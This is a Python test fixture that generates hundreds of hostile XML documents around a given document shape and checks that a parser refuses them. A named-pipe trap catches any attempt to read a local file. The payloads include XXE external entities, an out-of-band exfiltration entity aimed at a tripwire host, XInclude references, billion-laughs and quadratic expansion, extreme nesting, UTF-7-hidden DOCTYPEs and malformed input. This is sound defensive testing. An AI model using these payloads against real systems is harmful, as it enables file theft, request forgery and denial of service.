"""Hostile XML of every kind, around a document of any shape, and a trap for whoever follows it."""

import os
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Self

from dhos_connector_api.deliveries.cda.plain_xml import LONGEST_NAMESPACE, LONGEST_TAG, MOST_LEVELS

BAIT = "BAIT-THAT-NOBODY-MAY-READ"


class Trap:
    """A named pipe: nobody can open it without being seen, whether in Python or in C."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "trap"
        os.mkfifo(self.path)
        self.sprung = False
        self._closing = False
        self._thread = threading.Thread(target=self._wait, daemon=True)

    def _wait(self) -> None:
        with self.path.open("w") as pipe:  # ends when somebody reads
            self.sprung = not self._closing
            pipe.write(BAIT)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._closing = True
        reader = os.open(self.path, os.O_RDONLY | os.O_NONBLOCK)
        self._thread.join(timeout=10)
        os.close(reader)


@dataclass(frozen=True, slots=True)
class Shape:
    """A document with one place for text: what stands before the place, and after it."""

    name: str
    root: str  # of the DOCTYPE
    before: str  # begins with `<root`
    after: str

    def around(self, text: str) -> str:
        """The document with that text in its place."""
        return f"{self.before}{text}{self.after}"

    def with_attribute(self, attribute: str) -> str:
        """The document with an attribute more at its root."""
        return self.around("x").replace(f"<{self.root}", f"<{self.root} {attribute}", 1)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One document. `refused`: whether reading it must fail; None where its encoding is a matter of bytes."""

    name: str
    content: str
    refused: bool | None = True


def hostile(shape: Shape, *, trap: str, tripwire: str) -> list[Hostile]:
    """More than 300 documents; what they refer to is the file `trap` and the address `tripwire`."""
    targets = _targets(trap, tripwire)
    return [
        *_entities(shape, targets),
        *_laughs(shape),
        *_inclusions(shape, targets),
        *_large(shape),
        *_encodings(shape),
        *_malformed(shape),
        *_harmless(shape, targets),
    ]


def _targets(trap: str, tripwire: str) -> list[str]:
    host = tripwire.partition("://")[2].partition("/")[0]
    return [
        f"file://{trap}", f"file://localhost{trap}", f"file:{trap}", trap, f"../../../../../..{trap}",
        f"jar:file://{trap}!/x", f"netdoc:{trap}", f"php://filter/read=convert.base64-encode/resource={trap}",
        f"compress.zlib://{trap}", f"file:///proc/self/root{trap}",
        f"http://{host}/x.dtd", f"http://user@{host}/?a=b", f"https://{host}/x", f"ftp://{host}/x",
        f"gopher://{host}/x", f"//{host}/x", f"ldap://{host}/x", "expect://id",
    ]  # fmt: skip


def _entities(shape: Shape, targets: list[str]) -> Iterator[Hostile]:
    """External entities and DTDs in every position."""
    root = shape.root
    used, unused = shape.around("&e;"), shape.around("x")
    for target in targets:
        forms = {
            "general": f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{target}">]>{used}',
            "public": f'<!DOCTYPE {root} [<!ENTITY e PUBLIC "-//a//b" "{target}">]>{used}',
            "unused": f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{target}">]>{unused}',
            "parameter": f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{target}"> %p;]>{unused}',
            "out of band": f'<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{target}"> <!ENTITY % d "'
            f"<!ENTITY &#x25; s SYSTEM '{target}?%f;'>\"> %d; %s;]>{unused}",
            "DTD": f'<!DOCTYPE {root} SYSTEM "{target}">{unused}',
            "public DTD": f'<!DOCTYPE {root} PUBLIC "-//a//b" "{target}">{used}',
            "unparsed": f'<!DOCTYPE {root} [<!NOTATION n SYSTEM "{target}">'
            f'<!ENTITY e SYSTEM "{target}" NDATA n>]>{unused}',
            "standalone": f'<?xml version="1.0" standalone="no"?><!DOCTYPE {root} SYSTEM "{target}">{unused}',
        }  # fmt: skip
        for form, content in forms.items():
            yield Hostile(f"{form} entity {target}", content)
    in_attribute = shape.with_attribute('hostile="&e;"')
    for value in ("&#38;", "x", "&lt;b/&gt;"):
        yield Hostile(
            f"entity in an attribute {value}", f'<!DOCTYPE {root} [<!ENTITY e "{value}">]>{in_attribute}'
        )


def _laughs(shape: Shape) -> Iterator[Hostile]:
    """Entities that multiply."""
    for width, levels in ((2, 60), (10, 10), (100, 5), (1000, 3)):
        chain = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels))
        start = f'<!DOCTYPE {shape.root} [<!ENTITY e0 "ha">{chain}]>'
        yield Hostile(f"billion laughs {width}^{levels}", start + shape.around(f"&e{levels - 1};"))
        attribute = shape.with_attribute(f'hostile="&e{levels - 1};"')
        yield Hostile(f"billion laughs in an attribute {width}^{levels}", start + attribute)
        percent = chain.replace("<!ENTITY e", "<!ENTITY % e").replace("&e", "%e")
        yield Hostile(f"parameter laughs {width}^{levels}", f"<!DOCTYPE a [{percent}]>{shape.around('x')}")
    for size in (1_000, 10_000, 50_000):
        start = f'<!DOCTYPE a [<!ENTITY e "{"x" * size}">]>'
        yield Hostile(f"quadratic {size}", start + shape.around("&e;" * size))
        yield Hostile(f"quadratic attribute {size}", start + shape.with_attribute(f'h="{"&e;" * size}"'))
    for name, start in {
        "itself": '<!ENTITY e "&e;">',
        "each other": '<!ENTITY e "&f;"><!ENTITY f "&e;">',
    }.items():
        yield Hostile(f"an entity of {name}", f"<!DOCTYPE a [{start}]>{shape.around('&e;')}")


def _inclusions(shape: Shape, targets: list[str]) -> Iterator[Hostile]:
    """XInclude, of both namespaces."""
    for target in targets:
        for year in (2001, 2003):
            for parse in ("xml", "text"):
                space = f"http://www.w3.org/{year}/XInclude"
                element = f'<i:include xmlns:i="{space}" href="{target}" parse="{parse}"/>'
                yield Hostile(f"XInclude {year} {parse} {target}", shape.around(element))


def _large(shape: Shape) -> Iterator[Hostile]:
    """Depth, length and number."""
    for levels in (MOST_LEVELS, 1_000, 10_000, 100_000):
        yield Hostile(f"{levels} levels", shape.around("<a>" * levels + "</a>" * levels))
        yield Hostile(f"{levels} levels, not ended", shape.around("<a>" * levels))
        yield Hostile(
            f"{levels} levels with namespaces", shape.around('<a xmlns="u">' * levels + "</a>" * levels)
        )
    for size in (LONGEST_TAG // 2, LONGEST_TAG * 5 // 4):
        long, x = size > LONGEST_TAG, "x" * size
        yield Hostile(f"text {size}", shape.around(x), False)
        yield Hostile(f"CDATA {size}", shape.around(f"<![CDATA[{x}]]>"), False)
        yield Hostile(f"references {size}", shape.around("&#120;" * (size // 6)), False)
        yield Hostile(f"blanks {size}", shape.around("x") + " " * size, False)
        yield Hostile(f"comment {size}", shape.around(f"<!--{x}-->"), long)
        yield Hostile(f"instruction {size}", shape.around(f"<?x {x}?>"), long)
        yield Hostile(f"attribute {size}", shape.with_attribute(f'h="{x}"'), long)
        yield Hostile(f"name {size}", shape.around(f"<{x}/>"), long)
        many = " ".join(f'a{n}=""' for n in range(size // 10))
        yield Hostile(f"attributes {size}", shape.with_attribute(many), long)
        spaces = " ".join(f'xmlns:a{n}="u"' for n in range(size // 12))
        yield Hostile(f"namespaces {size}", shape.with_attribute(spaces), long)
        yield Hostile(f"a long namespace {size}", shape.with_attribute(f'xmlns:h="{x}"'))
        yield Hostile(f"elements {size}", shape.around("<a/>" * (size // 4)), False)
        n = f'<n xmlns="{"n" * LONGEST_NAMESPACE}">'
        yield Hostile(
            f"elements in a namespace {size}", shape.around(f"{n}{'<a/>' * (size // 4)}</n>"), False
        )


_ENCODINGS = (
    "UTF-7", "UTF-16", "UTF-16LE", "UTF-32", "UCS-4", "EBCDIC-CP-US", "cp037", "Shift_JIS", "Big5",
    "ISO-2022-JP", "HZ", "ISO-8859-1", "windows-1252", "us-ascii", "nonsense", "x" * 1000, "utf-8-sig",
    "punycode", "idna", "unicode_escape", "undefined", "base64", "zlib", "rot13",
)  # fmt: skip


def _encodings(shape: Shape) -> Iterator[Hostile]:
    """Declarations that lie, and a DOCTYPE hidden in UTF-7."""
    plain = shape.around("x")
    for name in _ENCODINGS:
        yield Hostile(f"declared {name[:20]}", f'<?xml version="1.0" encoding="{name}"?>{plain}', None)
    for name in ("UTF-7", "utf_7", "unicode-1-1-utf-7"):
        hidden = f'<?xml version="1.0" encoding="{name}"?>+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY e "x"+AD4AXQA+-'
        yield Hostile(f"DOCTYPE in {name}", hidden + shape.around("x"), True)
    yield Hostile("an empty encoding", f'<?xml version="1.0" encoding=""?>{plain}')
    yield Hostile("an encoding that is a path", f'<?xml version="1.0" encoding="../../x"?>{plain}')
    yield Hostile("a second BOM", f"\ufeff\ufeff{plain}")


_NO_XML = (
    "\0", "\x01", "\x1f", "\ufffe", "&#0;", "&#x1F;", "&#xD800;", "&#x110000;", "&e;", "&", "<", "]]>",
    "<a b=c/>", "<a b='1' b='2'/>", "<a:b/>", "<a xmlns:xml='urn:x'/>", "<!ELEMENT a ANY>", "<!DOCTYPE a>",
    "<?xml version='1.0'?>", "<!-- -- -->", "<a></b>", "<![INCLUDE[x]]>", "<%= x %>",
)  # fmt: skip


def _malformed(shape: Shape) -> Iterator[Hostile]:
    """What is no XML, and documents cut anywhere."""
    plain = shape.around("<b>x</b>")
    for cut in range(20):
        yield Hostile(f"cut at {cut}/20", plain[: len(plain) * cut // 20])
    for bad in _NO_XML:
        yield Hostile(f"with {bad!r}", shape.around(bad))
    yield Hostile("half a surrogate pair", shape.around("\udc00"), None)
    yield Hostile("twice", plain + plain)
    yield Hostile("after blanks", f" <?xml version='1.0'?>{plain}")


def _harmless(shape: Shape, targets: list[str]) -> Iterator[Hostile]:
    """What others follow, and XML allows: it is taken, and nobody may follow it."""
    instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    for target in (each for each in targets if "&" not in each):
        forms = {
            "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{target}"?>{shape.around("x")}',
            "model": f'<?xml-model href="{target}"?>{shape.around("x")}',
            "schema": shape.with_attribute(f'{instance} xsi:schemaLocation="urn:x {target}"'),
            "schema, no namespace": shape.with_attribute(
                f'{instance} xsi:noNamespaceSchemaLocation="{target}"'
            ),
            "base": shape.with_attribute(f'xml:base="{target}"'),
        }  # fmt: skip
        for form, content in forms.items():
            yield Hostile(f"{form} {target}", content, False)
    yield Hostile("a DOCTYPE in a comment", f"<!-- <!DOCTYPE a> -->{shape.around('x')}", False)
    yield Hostile("a DOCTYPE in CDATA", shape.around("<![CDATA[<!DOCTYPE a [<!ENTITY e 'x'>]>]]>"), False)
